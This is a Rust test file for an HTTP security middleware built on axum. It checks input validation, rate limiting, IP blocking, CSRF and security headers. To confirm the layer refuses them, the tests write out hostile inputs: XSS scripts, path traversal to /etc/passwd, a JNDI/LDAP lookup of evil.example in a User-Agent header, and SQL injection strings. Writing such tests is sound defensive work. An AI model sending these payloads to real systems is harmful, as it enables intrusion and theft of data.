//! The HTTP layer in process: each step of the `http` section, driven through an axum router.

#![cfg(feature = "http")]

use std::net::SocketAddr;

use axum::Router;
use axum::body::Body;
use axum::extract::ConnectInfo;
use axum::http::{HeaderValue, Request, StatusCode, header};
use axum::response::IntoResponse;
use axum::routing::{get, post};
use http_body_util::BodyExt;
use tower::ServiceExt;
use vana_ops::Ops;
use vana_ops::config::{ConfigLoader, Document};

fn ops_with(security_yaml: &str) -> Ops {
    let loaded = ConfigLoader::new().document_str(Document::Security, "test", security_yaml).load().unwrap();
    Ops::builder(loaded).install_logging(false).start_collector(false).build().unwrap()
}

/// The same with rate limits and blocks on `clock`, which moves only when the test says.
fn ops_on_clock(security_yaml: &str, clock: &vana_ops::security::ManualClock) -> Ops {
    let loaded = ConfigLoader::new().document_str(Document::Security, "test", security_yaml).load().unwrap();
    let builder = Ops::builder(loaded).install_logging(false).start_collector(false);
    builder.security_clock(std::sync::Arc::new(clock.clone())).build().unwrap()
}

fn app(ops: &Ops) -> Router {
    Router::new()
        .route("/items/{id}", get(|| async { "item" }))
        .route("/echo", post(|body: String| async move { body }))
        .route("/hooks/{name}", post(|| async { "hooked" }))
        .route("/hooksmith", post(|| async { "not a hook" }))
        .route("/fail", get(|| async { StatusCode::INTERNAL_SERVER_ERROR }))
        .route(
            "/own-headers",
            get(|| async {
                ([(header::X_FRAME_OPTIONS, "SAMEORIGIN"), (header::SERVER, "leaky/1.0")], "x")
                    .into_response()
            }),
        )
        .layer(ops.http_layer().unwrap())
}

fn request(method: &str, uri: &str, from: &str) -> axum::http::request::Builder {
    let peer: SocketAddr = format!("{from}:40000").parse().unwrap();
    let mut builder = Request::builder().method(method).uri(uri);
    builder.extensions_mut().unwrap().insert(ConnectInfo(peer));
    builder
}

async fn send(app: &Router, request: Request<Body>) -> (StatusCode, axum::http::HeaderMap, String) {
    let response = app.clone().oneshot(request).await.unwrap();
    let (parts, body) = response.into_parts();
    let bytes = body.collect().await.unwrap().to_bytes();
    (parts.status, parts.headers, String::from_utf8_lossy(&bytes).into_owned())
}

const NO_CSRF: &str = "csrf_protection:\n  require_csrf: false\n";

#[tokio::test]
async fn a_clean_request_passes_with_every_header_and_is_measured_by_route_template() {
    let ops = ops_with(NO_CSRF);
    let app = app(&ops);
    let incoming = request("GET", "/items/42?q=hello+world", "198.51.100.1")
        .header("x-correlation-id", "req-1")
        .body(Body::empty())
        .unwrap();
    let (status, headers, body) = send(&app, incoming).await;
    assert_eq!((status, body.as_str()), (StatusCode::OK, "item"));
    assert_eq!(headers["x-correlation-id"], "req-1");
    assert_eq!(headers["ratelimit-policy"], "\"burst\";q=10;w=6, \"window\";q=110;w=60");
    assert_eq!(headers["ratelimit"], "\"burst\";r=9;t=1");
    assert!(!headers.contains_key("x-ratelimit-limit"), "the legacy names only when configured");
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert_eq!(headers["x-frame-options"], "DENY");
    assert_eq!(ops.monitor().total_recorded("response_time./items/{id}"), 1);
    assert!(
        ops.monitor().series_names().iter().all(|name| !name.contains("42")),
        "raw paths never name a series"
    );
}

#[tokio::test]
async fn around_a_whole_router_requests_are_named_by_the_given_templates() {
    let ops = ops_with(NO_CSRF);
    let inner = Router::new().route("/items/{id}", get(|| async { "item" }));
    let layer = vana_ops::OpsLayer::with_route_templates(&ops, &["/items/{id}"]).unwrap();
    let app = Router::new().fallback_service(tower::Layer::layer(&layer, inner));
    for uri in ["/items/1", "/items/2", "/elsewhere"] {
        let _ = send(&app, request("GET", uri, "198.51.100.1").body(Body::empty()).unwrap()).await;
    }
    assert_eq!(ops.monitor().total_recorded("response_time./items/{id}"), 2);
    assert_eq!(ops.monitor().total_recorded("response_time.other"), 1);
    // A template that conflicts with a configured one is an error, the same one twice is not.
    let configured = ops_with(&format!("{NO_CSRF}http:\n  route_templates: [\"/items/{{id}}\"]\n"));
    assert!(vana_ops::OpsLayer::with_route_templates(&configured, &["/items/{id}"]).is_ok());
    assert!(vana_ops::OpsLayer::with_route_templates(&configured, &["/items/{name}"]).is_err());
}

#[tokio::test]
async fn handler_headers_are_kept_and_revealing_ones_removed() {
    let ops = ops_with(NO_CSRF);
    let (_, headers, _) =
        send(&app(&ops), request("GET", "/own-headers", "198.51.100.2").body(Body::empty()).unwrap()).await;
    assert_eq!(headers["x-frame-options"], "SAMEORIGIN");
    assert!(!headers.contains_key(header::SERVER));
    assert_eq!(headers["referrer-policy"], "strict-origin-when-cross-origin");
}

#[tokio::test]
async fn attacks_in_path_query_header_and_body_are_refused_without_echo_and_recorded() {
    let ops = ops_with(NO_CSRF);
    let app = app(&ops);
    let payload = "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E";
    let cases = [
        (
            request("GET", &format!("/items/1?q={payload}"), "198.51.100.101").body(Body::empty()).unwrap(),
            "query",
        ),
        (
            request("GET", "/items/..%2F..%2Fetc%2Fpasswd", "198.51.100.102").body(Body::empty()).unwrap(),
            "path",
        ),
        (
            request("GET", "/items/1", "198.51.100.103")
                .header(header::USER_AGENT, "${jndi:ldap://evil.example/a}")
                .body(Body::empty())
                .unwrap(),
            "header",
        ),
        (
            request("POST", "/echo", "198.51.100.104")
                .header(header::CONTENT_TYPE, "application/json")
                .body(Body::from(r#"{"user":{"bio":"<img src=x onerror=alert(1)>"}}"#))
                .unwrap(),
            "json",
        ),
        (
            request("POST", "/echo", "198.51.100.105")
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                .body(Body::from("name=bob&id=1%27%20OR%20%271%27%3D%271"))
                .unwrap(),
            "form",
        ),
    ];
    // Each from its own address.
    for (incoming, location) in cases {
        let (status, headers, body) = send(&app, incoming).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{location}: {body}");
        assert_eq!(headers[header::CONTENT_TYPE], "application/json");
        let json: serde_json::Value = serde_json::from_str(&body).unwrap();
        assert_eq!(json["error"], "input_rejected");
        assert_eq!(json["location"], location);
        assert!(
            json["score"].as_u64().unwrap() >= 5 && !json["rules"].as_array().unwrap().is_empty(),
            "{json}"
        );
        assert!(!body.contains("script") && !body.contains("jndi") && !body.contains("onerror"), "{body}");
    }
    let events = ops.security().events().query(&Default::default());
    assert!(events.iter().filter(|event| event.event_type == "input_rejected").count() >= 5);
}

#[tokio::test]
async fn benign_bodies_of_every_kind_pass_and_reach_the_handler_intact() {
    let ops = ops_with(NO_CSRF);
    let app = app(&ops);
    for (content_type, body) in [
        ("application/json", r#"{"message":"Can you select the best option from these?"}"#),
        ("application/x-www-form-urlencoded", "name=O%27Brien&city=Saint-%C3%89tienne"),
        ("text/plain", "I'd like to order 2 items & a drink."),
    ] {
        let incoming = request("POST", "/echo", "198.51.100.4")
            .header(header::CONTENT_TYPE, content_type)
            .body(Body::from(body))
            .unwrap();
        let (status, _, echoed) = send(&app, incoming).await;
        assert_eq!((status, echoed.as_str()), (StatusCode::OK, body), "{content_type}");
    }
}

#[tokio::test]
async fn oversized_bodies_get_413_whether_declared_or_streamed() {
    let ops = ops_with("csrf_protection:\n  require_csrf: false\nhttp:\n  max_body_bytes: 100\n");
    let app = app(&ops);
    let declared = request("POST", "/echo", "198.51.100.5")
        .header(header::CONTENT_TYPE, "text/plain")
        .header(header::CONTENT_LENGTH, "101")
        .body(Body::from("x".repeat(101)))
        .unwrap();
    assert_eq!(send(&app, declared).await.0, StatusCode::PAYLOAD_TOO_LARGE);
    let stream = futures_stream(vec!["x".repeat(60), "y".repeat(60)]);
    let streamed = request("POST", "/echo", "198.51.100.5")
        .header(header::CONTENT_TYPE, "application/json")
        .body(stream)
        .unwrap();
    assert_eq!(send(&app, streamed).await.0, StatusCode::PAYLOAD_TOO_LARGE);
    let fits = request("POST", "/echo", "198.51.100.5").body(Body::from("z".repeat(100))).unwrap();
    assert_eq!(send(&app, fits).await.0, StatusCode::OK);
}

/// A body of several chunks with no declared length.
fn futures_stream(chunks: Vec<String>) -> Body {
    Body::new(Chunks(chunks.into_iter().map(bytes::Bytes::from).collect()))
}

struct Chunks(std::collections::VecDeque<bytes::Bytes>);

impl http_body::Body for Chunks {
    type Data = bytes::Bytes;
    type Error = std::convert::Infallible;

    fn poll_frame(
        mut self: std::pin::Pin<&mut Self>,
        _cx: &mut std::task::Context<'_>,
    ) -> std::task::Poll<Option<Result<http_body::Frame<bytes::Bytes>, Self::Error>>> {
        std::task::Poll::Ready(self.0.pop_front().map(|chunk| Ok(http_body::Frame::data(chunk))))
    }
}

#[tokio::test]
async fn the_request_past_the_burst_gets_429_with_retry_after() {
    let clock = vana_ops::security::ManualClock::new();
    let ops = ops_on_clock(
        "csrf_protection:\n  require_csrf: false\nrate_limiting:\n  burst_limit: 3\nhttp:\n  rate_limit_headers: both\n",
        &clock,
    );
    let app = app(&ops);
    let mut statuses = Vec::new();
    for _ in 0..4 {
        let (status, headers, _) =
            send(&app, request("GET", "/items/1", "198.51.100.6").body(Body::empty()).unwrap()).await;
        assert!(headers.contains_key("ratelimit"), "both styles, as configured");
        statuses.push((
            status,
            headers["x-ratelimit-remaining"].to_str().unwrap().to_owned(),
            headers.get(header::RETRY_AFTER).cloned(),
        ));
    }
    assert_eq!(statuses[0].1, "2");
    assert_eq!(statuses[2], (StatusCode::OK, "0".into(), None));
    assert_eq!(statuses[3].0, StatusCode::TOO_MANY_REQUESTS);
    let retry_after: u64 = statuses[3].2.as_ref().unwrap().to_str().unwrap().parse().unwrap();
    assert!(retry_after >= 1);
    let again = || request("GET", "/items/1", "198.51.100.6").body(Body::empty()).unwrap();
    assert_eq!(send(&app, again()).await.0, StatusCode::TOO_MANY_REQUESTS, "no time has passed");
    clock.advance(std::time::Duration::from_secs(retry_after));
    assert_eq!(send(&app, again()).await.0, StatusCode::OK, "Retry-After is long enough");
    // Another client has its own budget.
    assert_eq!(
        send(&app, request("GET", "/items/1", "198.51.100.7").body(Body::empty()).unwrap()).await.0,
        StatusCode::OK
    );
    assert_eq!(ops.security().events().query(&Default::default())[0].event_type, "rate_limited");
}

#[tokio::test]
async fn blocked_addresses_get_403_and_repeated_attacks_block_their_source() {
    let ops = ops_with(NO_CSRF);
    let app = app(&ops);
    ops.security().block_ip("203.0.113.9".parse().unwrap(), "test");
    let (status, _, body) =
        send(&app, request("GET", "/items/1", "203.0.113.9").body(Body::empty()).unwrap()).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(body.contains("address_blocked"));
    // One refused attack does not block; the fifth within the window does (ip_blocking.auto_block_after).
    let attack = || {
        request("GET", "/items/1?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", "203.0.113.10")
            .body(Body::empty())
            .unwrap()
    };
    let again = || request("GET", "/items/1", "203.0.113.10").body(Body::empty()).unwrap();
    assert_eq!(send(&app, attack()).await.0, StatusCode::BAD_REQUEST);
    assert_eq!(send(&app, again()).await.0, StatusCode::OK, "one refused attack does not block");
    for _ in 0..4 {
        assert_eq!(send(&app, attack()).await.0, StatusCode::BAD_REQUEST);
    }
    assert_eq!(send(&app, again()).await.0, StatusCode::FORBIDDEN);
    // The loopback is whitelisted: attacks from it are refused but never block it.
    for _ in 0..6 {
        let local =
            request("GET", "/items/1?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", "127.0.0.1");
        assert_eq!(send(&app, local.body(Body::empty()).unwrap()).await.0, StatusCode::BAD_REQUEST);
    }
    assert_eq!(
        send(&app, request("GET", "/items/1", "127.0.0.1").body(Body::empty()).unwrap()).await.0,
        StatusCode::OK
    );
}

#[tokio::test]
async fn a_server_that_passes_no_peer_address_gets_500_naming_the_fix_from_the_first_request() {
    let ops = ops_with(NO_CSRF);
    let app = app(&ops);
    for _ in 0..2 {
        let request = Request::get("/items/1").body(Body::empty()).unwrap();
        let (status, _, body) = send(&app, request).await;
        assert_eq!(status, StatusCode::INTERNAL_SERVER_ERROR);
        assert!(
            body.contains("client_address_unknown") && body.contains("into_make_service_with_connect_info"),
            "{body}"
        );
    }
    // Behind a proxy that is the only way in, the forwarded header can be the source, when configured.
    let ops = ops_with(
        "csrf_protection:\n  require_csrf: false\nclient_address:\n  without_peer: forwarded_header\n",
    );
    let proxied = self::app(&ops);
    let request =
        Request::get("/items/1").header("x-forwarded-for", "203.0.113.40").body(Body::empty()).unwrap();
    let (status, headers, _) = send(&proxied, request).await;
    assert_eq!(status, StatusCode::OK);
    assert!(headers.contains_key("ratelimit"), "rate limiting runs: {headers:?}");
}

#[tokio::test]
async fn attacks_a_third_party_page_makes_a_browser_send_are_refused_but_never_block_the_visitor() {
    let ops = ops_with("csrf_protection:\n  require_csrf: false\nhttp:\n  rate_limit: false\n");
    let app = app(&ops);
    // `<img src="https://service/items/1?id=<script>...">` on another site, five times.
    let embedded = || {
        request("GET", "/items/1?id=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "203.0.113.30")
            .header("sec-fetch-site", "cross-site")
            .header("sec-fetch-mode", "no-cors")
            .header("sec-fetch-dest", "image")
            .body(Body::empty())
            .unwrap()
    };
    for _ in 0..6 {
        assert_eq!(send(&app, embedded()).await.0, StatusCode::BAD_REQUEST, "the refusal stands");
    }
    let again = || request("GET", "/items/1", "203.0.113.30").body(Body::empty()).unwrap();
    assert_eq!(send(&app, again()).await.0, StatusCode::OK, "the visitor is not blocked");
    let events = ops.security().events().query(&Default::default());
    assert!(events.iter().all(|event| event.event_type != "ip_blocked"));
    let refused = events.iter().find(|event| event.event_type == "input_rejected").expect("an event");
    assert!(refused.details["strike"].as_str().unwrap().starts_with("no"), "{:?}", refused.details);
    // The same attack typed by the visitor (same-origin or no Sec-Fetch-Site) counts.
    for _ in 0..5 {
        let typed = request("GET", "/items/1?id=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "203.0.113.30")
            .header("sec-fetch-site", "none")
            .body(Body::empty())
            .unwrap();
        assert_eq!(send(&app, typed).await.0, StatusCode::BAD_REQUEST);
    }
    assert_eq!(send(&app, again()).await.0, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn trusted_proxies_name_the_client_from_the_forwarded_header() {
    let ops = ops_with(
        "csrf_protection:\n  require_csrf: false\nclient_address:\n  trusted_proxies: [\"10.0.0.0/8\"]\n",
    );
    let app = app(&ops);
    ops.security().block_ip("203.0.113.20".parse().unwrap(), "test");
    let via_proxy = request("GET", "/items/1", "10.1.2.3")
        .header("x-forwarded-for", "203.0.113.20")
        .body(Body::empty())
        .unwrap();
    assert_eq!(send(&app, via_proxy).await.0, StatusCode::FORBIDDEN);
    // An untrusted peer cannot make itself someone else.
    let spoofed = request("GET", "/items/1", "198.51.100.30")
        .header("x-forwarded-for", "203.0.113.20")
        .body(Body::empty())
        .unwrap();
    assert_eq!(send(&app, spoofed).await.0, StatusCode::OK);
}

#[tokio::test]
async fn unsafe_methods_need_a_token_bound_to_the_session() {
    let ops = ops_with("csrf_protection:\n  require_csrf: true\n  mode: token\n");
    let app = app(&ops);
    let post = |token: Option<&str>, cookie: Option<&str>, form: bool| {
        let mut builder = request("POST", "/echo", "198.51.100.40");
        if let Some(cookie) = cookie {
            builder = builder.header(header::COOKIE, cookie);
        }
        if let (Some(token), false) = (token, form) {
            builder = builder.header("x-csrf-token", token);
        }
        match (token, form) {
            (Some(token), true) => builder
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                .body(Body::from(format!("msg=hi&csrf_token={token}")))
                .unwrap(),
            _ => builder.body(Body::from("hi")).unwrap(),
        }
    };
    let (status, _, body) = send(&app, post(None, None, false)).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    assert!(body.contains("csrf_token_invalid") && body.contains("docs/security.md#csrf"), "{body}");

    let (status, headers, body) =
        send(&app, request("GET", "/csrf-token", "198.51.100.40").body(Body::empty()).unwrap()).await;
    assert_eq!(status, StatusCode::OK);
    let set_cookie = headers[header::SET_COOKIE].to_str().unwrap();
    assert!(set_cookie.contains("HttpOnly") && set_cookie.contains("SameSite=Strict"));
    let cookie = set_cookie.split(';').next().unwrap();
    let token: serde_json::Value = serde_json::from_str(&body).unwrap();
    let token = token["token"].as_str().unwrap();

    assert_eq!(send(&app, post(Some(token), Some(cookie), false)).await.0, StatusCode::OK);
    assert_eq!(send(&app, post(Some(token), Some(cookie), true)).await.0, StatusCode::OK);
    assert_eq!(
        send(&app, post(Some(token), Some("vana_session=another"), false)).await.0,
        StatusCode::FORBIDDEN
    );
    assert_eq!(send(&app, post(Some("v1.forged"), Some(cookie), false)).await.0, StatusCode::FORBIDDEN);
    // A safe method never needs one.
    assert_eq!(
        send(&app, request("GET", "/items/1", "198.51.100.40").body(Body::empty()).unwrap()).await.0,
        StatusCode::OK
    );
}

#[tokio::test]
async fn the_csrf_route_field_and_exemptions_come_from_the_configuration() {
    let ops = ops_with(
        "csrf_protection:\n  require_csrf: true\n  mode: token\nhttp:\n  csrf_token_path: /session/csrf\n  csrf_form_field: authenticity_token\n  csrf_exempt_paths: [/hooks/]\n",
    );
    let app = app(&ops);
    let get = |path: &str| request("GET", path, "198.51.100.41").body(Body::empty()).unwrap();
    assert_eq!(
        send(&app, get("/csrf-token")).await.0,
        StatusCode::NOT_FOUND,
        "the default route is not served"
    );
    let (status, headers, body) = send(&app, get("/session/csrf")).await;
    assert_eq!(status, StatusCode::OK);
    let cookie = headers[header::SET_COOKIE].to_str().unwrap().split(';').next().unwrap().to_owned();
    let issued: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(issued["form_field"], "authenticity_token");
    let token = issued["token"].as_str().unwrap();
    let form = |field: &str| {
        request("POST", "/echo", "198.51.100.41")
            .header(header::COOKIE, &cookie)
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .body(Body::from(format!("msg=hi&{field}={token}")))
            .unwrap()
    };
    assert_eq!(send(&app, form("authenticity_token")).await.0, StatusCode::OK);
    assert_eq!(send(&app, form("csrf_token")).await.0, StatusCode::FORBIDDEN, "only the configured field");
    let bare_post = |path: &str| request("POST", path, "198.51.100.41").body(Body::empty()).unwrap();
    assert_eq!(send(&app, bare_post("/hooks/deploy")).await.0, StatusCode::OK, "exempt");
    assert_eq!(send(&app, bare_post("/hooksmith")).await.0, StatusCode::FORBIDDEN, "not under /hooks/");
}

#[tokio::test]
async fn origin_mode_refuses_cross_site_browser_requests_and_nothing_else() {
    let ops = ops_with(
        "csrf_protection:\n  trusted_origins: [\"https://app.example.com\"]\nhttp:\n  csrf_exempt_paths: [/hooks]\n",
    );
    let app = app(&ops);
    let post = |path: &str, headers: &[(&str, &str)]| {
        let mut builder = request("POST", path, "198.51.100.42").header(header::HOST, "api.example.com");
        for (name, value) in headers {
            builder = builder.header(*name, *value);
        }
        builder.body(Body::from("hi")).unwrap()
    };
    let status = |response: (StatusCode, _, _)| response.0;
    assert_eq!(status(send(&app, post("/echo", &[])).await), StatusCode::OK, "an API client needs no setup");
    assert_eq!(status(send(&app, post("/echo", &[("sec-fetch-site", "same-origin")])).await), StatusCode::OK);
    let (code, _, body) = send(&app, post("/echo", &[("sec-fetch-site", "cross-site")])).await;
    assert_eq!(code, StatusCode::FORBIDDEN);
    assert!(body.contains("cross_origin_request") && body.contains("trusted_origins"), "{body}");
    let old_browser = [("origin", "https://evil.example")];
    assert_eq!(status(send(&app, post("/echo", &old_browser)).await), StatusCode::FORBIDDEN);
    let same_host = [("origin", "http://api.example.com")];
    assert_eq!(status(send(&app, post("/echo", &same_host)).await), StatusCode::OK);
    let trusted = [("sec-fetch-site", "cross-site"), ("origin", "https://app.example.com")];
    assert_eq!(status(send(&app, post("/echo", &trusted)).await), StatusCode::OK);
    let hook = [("sec-fetch-site", "cross-site")];
    assert_eq!(status(send(&app, post("/hooks/deploy", &hook)).await), StatusCode::OK, "exempt");
    assert_eq!(
        status(send(&app, post("/hooksmith", &hook)).await),
        StatusCode::FORBIDDEN,
        "not under /hooks"
    );
    let events = ops.security().events().query(&Default::default());
    assert!(events.iter().any(|event| event.event_type == "cross_origin_request"));
}

/// An `Ops` of `security_yaml` whose request lines go to `memory` (the guard keeps the writer open).
fn ops_logging_to(
    memory: &vana_ops::logging::MemoryWriter,
    security_yaml: &str,
) -> (Ops, vana_ops::logging::LoggingGuard) {
    let config = vana_ops::config::Config::default();
    let (_dispatch, guard) = vana_ops::logging::LoggingBuilder::new(&config.monitoring.logging)
        .writer(memory.clone())
        .build()
        .unwrap();
    let loaded = ConfigLoader::new().document_str(Document::Security, "test", security_yaml).load().unwrap();
    let ops = Ops::builder(loaded)
        .install_logging(false)
        .start_collector(false)
        .request_log(guard.request_log())
        .build()
        .unwrap();
    (ops, guard)
}

#[tokio::test]
async fn each_step_can_be_switched_off() {
    let memory = vana_ops::logging::MemoryWriter::default();
    let (ops, _guard) = ops_logging_to(
        &memory,
        "csrf_protection:\n  require_csrf: false\nhttp:\n  block_addresses: false\n  validate_input: false\n  security_headers: false\n  rate_limit: false\n  correlation_id: false\n  access_log: false\n  route_metrics: false\n",
    );
    ops.security().block_ip("198.51.100.50".parse().unwrap(), "test");
    let app = app(&ops);
    let incoming = request("GET", "/items/1?q=%3Cscript%3Ex%3C%2Fscript%3E", "198.51.100.50")
        .header("x-correlation-id", "req-off")
        .body(Body::empty())
        .unwrap();
    let (status, headers, _) = send(&app, incoming).await;
    assert_eq!(status, StatusCode::OK, "neither the block nor the attack in the query is looked at");
    assert!(!headers.contains_key("x-ratelimit-limit") && !headers.contains_key("x-frame-options"));
    assert!(!headers.contains_key("x-correlation-id"));
    assert_eq!(ops.monitor().total_recorded("response_time./items/{id}"), 0);
    assert!(memory.lines().is_empty(), "{:?}", memory.lines());
}

#[tokio::test]
async fn the_access_log_and_the_route_metric_switch_apart() {
    for (access_log, route_metrics) in [(false, true), (true, false)] {
        let memory = vana_ops::logging::MemoryWriter::default();
        let yaml = format!("{NO_CSRF}http:\n  access_log: {access_log}\n  route_metrics: {route_metrics}\n");
        let (ops, _guard) = ops_logging_to(&memory, &yaml);
        let app = app(&ops);
        let (status, _, _) =
            send(&app, request("GET", "/items/1", "198.51.100.51").body(Body::empty()).unwrap()).await;
        assert_eq!(status, StatusCode::OK);
        let recorded = ops.monitor().total_recorded("response_time./items/{id}");
        assert_eq!(recorded, u64::from(route_metrics), "access_log {access_log}");
        let lines = memory.lines();
        assert_eq!(
            lines.iter().any(|line| line.contains("\"route\":\"/items/{id}\"")),
            access_log,
            "{lines:?}"
        );
    }
}

#[tokio::test]
async fn exempt_paths_skip_validation_only_there() {
    let ops = ops_with(
        "csrf_protection:\n  require_csrf: false\nhttp:\n  validation_exempt_paths: [\"/echo\", \"/hooks\"]\n",
    );
    let app = app(&ops);
    // An exemption covers whole path segments: /hooks/x, not /hooksmith.
    let code = |path: &str| {
        request("POST", path, "198.51.100.62")
            .header(header::CONTENT_TYPE, "text/plain")
            .body(Body::from("1' UNION SELECT password FROM users --"))
            .unwrap()
    };
    assert_eq!(send(&app, code("/hooks/deploy")).await.0, StatusCode::OK);
    assert_eq!(send(&app, code("/hooksmith")).await.0, StatusCode::BAD_REQUEST);
    let code_question = request("POST", "/echo", "198.51.100.60")
        .header(header::CONTENT_TYPE, "text/plain")
        .body(Body::from("why does SELECT * FROM users WHERE id = 1 OR 1=1 return everything?"))
        .unwrap();
    assert_eq!(send(&app, code_question).await.0, StatusCode::OK);
    let elsewhere =
        request("GET", "/items/1?q=1%27%20OR%201%3D1--", "198.51.100.61").body(Body::empty()).unwrap();
    assert_eq!(send(&app, elsewhere).await.0, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn server_errors_count_as_failures() {
    let ops = ops_with(NO_CSRF);
    let app = app(&ops);
    for _ in 0..3 {
        assert_eq!(
            send(&app, request("GET", "/fail", "198.51.100.70").body(Body::empty()).unwrap()).await.0,
            StatusCode::INTERNAL_SERVER_ERROR
        );
    }
    let failed = ops.monitor().snapshot().into_iter().find(|series| {
        &*series.name == "response_time./fail"
            && series.tags.iter().any(|(k, v)| &**k == "http.response.status_code" && &**v == "500")
    });
    assert_eq!(failed.map(|series| series.count), Some(3));
    let text = ops.metrics_text();
    assert!(
        text.contains("http_server_request_duration_seconds_count{http_route=\"/fail\",http_request_method=\"GET\",http_response_status_code=\"500\"} 3\n"),
        "{text}"
    );
}

#[tokio::test]
async fn refusals_are_counted_by_status_and_reason_not_as_successes() {
    let ops = ops_with(NO_CSRF);
    let app = app(&ops);
    let attack =
        request("GET", "/items/1?q=1%27%20OR%201%3D1--", "198.51.100.71").body(Body::empty()).unwrap();
    assert_eq!(send(&app, attack).await.0, StatusCode::BAD_REQUEST);
    let text = ops.metrics_text();
    for expected in [
        "http_server_request_duration_seconds_count{http_route=\"/items/{id}\",http_request_method=\"GET\",http_response_status_code=\"400\"} 1\n",
        "vana_http_refusals_total{reason=\"input_rejected\"} 1\n",
        "vana_http_refusals_total{reason=\"rate_limited\"} 0\n",
        "vana_security_findings_total{action=\"refuse\",category=\"sql_injection\"} 1\n",
        "vana_security_events_total{type=\"input_rejected\"} 1\n",
        "vana_security_events_total{type=\"ip_blocked\"} 0\n",
        "vana_build_info{version=\"",
        "vana_backend_fallbacks_total 0\n",
    ] {
        assert!(text.contains(expected), "{expected} in\n{text}");
    }
}

#[tokio::test]
async fn malformed_correlation_ids_are_replaced() {
    let ops = ops_with(NO_CSRF);
    let incoming = request("GET", "/items/1", "198.51.100.80")
        .header("x-correlation-id", HeaderValue::from_static("has spaces in it"))
        .body(Body::empty())
        .unwrap();
    let (_, headers, _) = send(&app(&ops), incoming).await;
    let id = headers["x-correlation-id"].to_str().unwrap();
    assert_eq!(id.len(), 36, "a generated UUID: {id}");
}

mod hostile {
    use proptest::prelude::*;

    use super::*;

    fn allowed_status(status: StatusCode) -> bool {
        [200, 400, 403, 413, 429].contains(&status.as_u16())
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 192, ..ProptestConfig::default() })]

        /// Whatever the query, headers and body, the layer answers (no panic) with one of its statuses and
        /// never echoes the input in a refusal.
        #[test]
        fn any_request_gets_an_answer_and_never_an_echo(
            query in "[ -~]{0,200}",
            user_agent in proptest::collection::vec(any::<u8>(), 0..200),
            body in proptest::collection::vec(any::<u8>(), 0..2000),
            kind in 0usize..5,
            from in 1u8..250,
        ) {
            static APP: std::sync::OnceLock<(Ops, Router)> = std::sync::OnceLock::new();
            let (_, app) = APP.get_or_init(|| {
                let ops = ops_with("csrf_protection:\n  require_csrf: false\nhttp:\n  max_body_bytes: 1000\n");
                let app = app(&ops);
                (ops, app)
            });
            let runtime = tokio::runtime::Builder::new_current_thread().enable_time().build().unwrap();
            let encoded: String = form_urlencoded::byte_serialize(query.as_bytes()).collect();
            let content_type = ["application/json", "application/x-www-form-urlencoded", "text/plain", "multipart/form-data; boundary=x", "application/octet-stream"][kind];
            let mut builder = request("POST", &format!("/echo?q={encoded}"), &format!("198.51.100.{from}"))
                .header(header::CONTENT_TYPE, content_type);
            if let Ok(value) = HeaderValue::from_bytes(&user_agent) {
                builder = builder.header(header::USER_AGENT, value);
            }
            let (status, _, text) = runtime.block_on(send(app, builder.body(Body::from(body.clone())).unwrap()));
            prop_assert!(allowed_status(status), "{status}");
            if status != StatusCode::OK && query.len() > 8 {
                prop_assert!(!text.contains(&query), "a refusal echoed the query");
            }
            if body.len() > 1000 {
                prop_assert_ne!(status, StatusCode::OK, "a body past the cap never reaches the service");
            }
        }
    }
}

#[tokio::test]
async fn strict_transport_security_goes_only_to_https_requests() {
    let ops = ops_with(&format!(
        "{NO_CSRF}client_address:\n  trusted_proxies: [\"10.0.0.0/8\"]\nheaders:\n  security_headers:\n    Strict-Transport-Security: max-age=63072000\n"
    ));
    let app = app(&ops);
    let from = |peer: &str, proto: &str| {
        request("GET", "/items/1", peer).header("x-forwarded-proto", proto).body(Body::empty()).unwrap()
    };
    let (_, behind_tls_proxy, _) = send(&app, from("10.0.0.2", "https")).await;
    assert_eq!(behind_tls_proxy["strict-transport-security"], "max-age=63072000");
    let (_, plain_behind_proxy, _) = send(&app, from("10.0.0.2", "http")).await;
    assert!(!plain_behind_proxy.contains_key("strict-transport-security"));
    let (_, claimed_by_client, _) = send(&app, from("198.51.100.70", "https")).await;
    assert!(!claimed_by_client.contains_key("strict-transport-security"), "only a trusted proxy is believed");
}

#[tokio::test]
async fn json_keys_are_names_judged_for_structure_only() {
    // Level 2: a value that is a program's name is refused; a key named like one is a name.
    let ops = ops_with("csrf_protection:\n  require_csrf: false\ninput_validation:\n  level: 2\n");
    let app = app(&ops);
    let post = |body: &'static str| {
        request("POST", "/echo", "198.51.100.71")
            .header("content-type", "application/json")
            .body(Body::from(body))
            .unwrap()
    };
    let (status, _, _) = send(&app, post(r#"{"ls": 1, "dd": 2, "nc": {"npm": "fine"}}"#)).await;
    assert_eq!(status, StatusCode::OK, "keys named like programs");
    let (status, _, _) = send(&app, post(r#"{"tool": "ls"}"#)).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "the same word as a value, at level 2");
    let (status, _, _) = send(&app, post(r#"{"x'; DROP TABLE t; --": 1}"#)).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "a key that breaks out is still refused");
}
